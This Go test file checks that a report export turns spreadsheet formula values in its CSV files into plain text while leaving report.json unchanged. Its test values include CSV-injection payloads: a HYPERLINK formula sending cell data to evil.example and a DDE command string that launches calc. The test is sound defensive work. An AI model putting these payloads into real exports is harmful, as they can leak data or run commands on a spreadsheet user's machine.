package gate_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"testing"

	"github.com/candorhq/candor/gate"
)

// TestExportCSVNeutralizesFormulas puts a value beginning with each
// character a spreadsheet reads as the start of a formula into a trait and
// an identifier: in the CSV files each becomes text (a leading single
// quote), and report.json keeps the value as it is.
func TestExportCSVNeutralizesFormulas(t *testing.T) {
	for _, v := range []string{
		`=HYPERLINK("https://evil.example/?"&A1,"click")`,
		"+1+cmd|' /C calc'!A0",
		"-2+3",
		"-5",
		"@SUM(1,2)",
		"\t=1+1",
		"\r=1+1",
	} {
		rep := &gate.Report{
			SubjectID:   "sub_a",
			Identifiers: []gate.ReportIdentifier{{Kind: "user_id", Value: v}},
			Fields:      []gate.ReportField{{Field: "city", Value: v, Category: "location.city"}, {Field: "note", Value: "plain " + v}},
		}
		b, err := gate.ExportZip(rep)
		if err != nil {
			t.Fatal(err)
		}
		files := unzip(t, b)
		for name, col := range map[string]int{"identifiers.csv": 1, "fields.csv": 1} {
			rows, err := csv.NewReader(bytes.NewReader(files[name])).ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			if got, want := rows[1][col], "'"+v; got != want {
				t.Errorf("%s: %q, want %q", name, got, want)
			}
			if name == "fields.csv" {
				if got, want := rows[2][col], "plain "+v; got != want {
					t.Errorf("%s: a value that does not begin a formula changed: %q, want %q", name, got, want)
				}
			}
		}
		var again gate.Report
		if err := json.Unmarshal(files["report.json"], &again); err != nil {
			t.Fatal(err)
		}
		if again.Fields[0].Value != v || again.Identifiers[0].Value != v {
			t.Errorf("report.json changed %q to %q", v, again.Fields[0].Value)
		}
	}
}

func unzip(t *testing.T, b []byte) map[string][]byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	files := map[string][]byte{}
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		files[f.Name], _ = io.ReadAll(rc)
		rc.Close()
	}
	return files
}
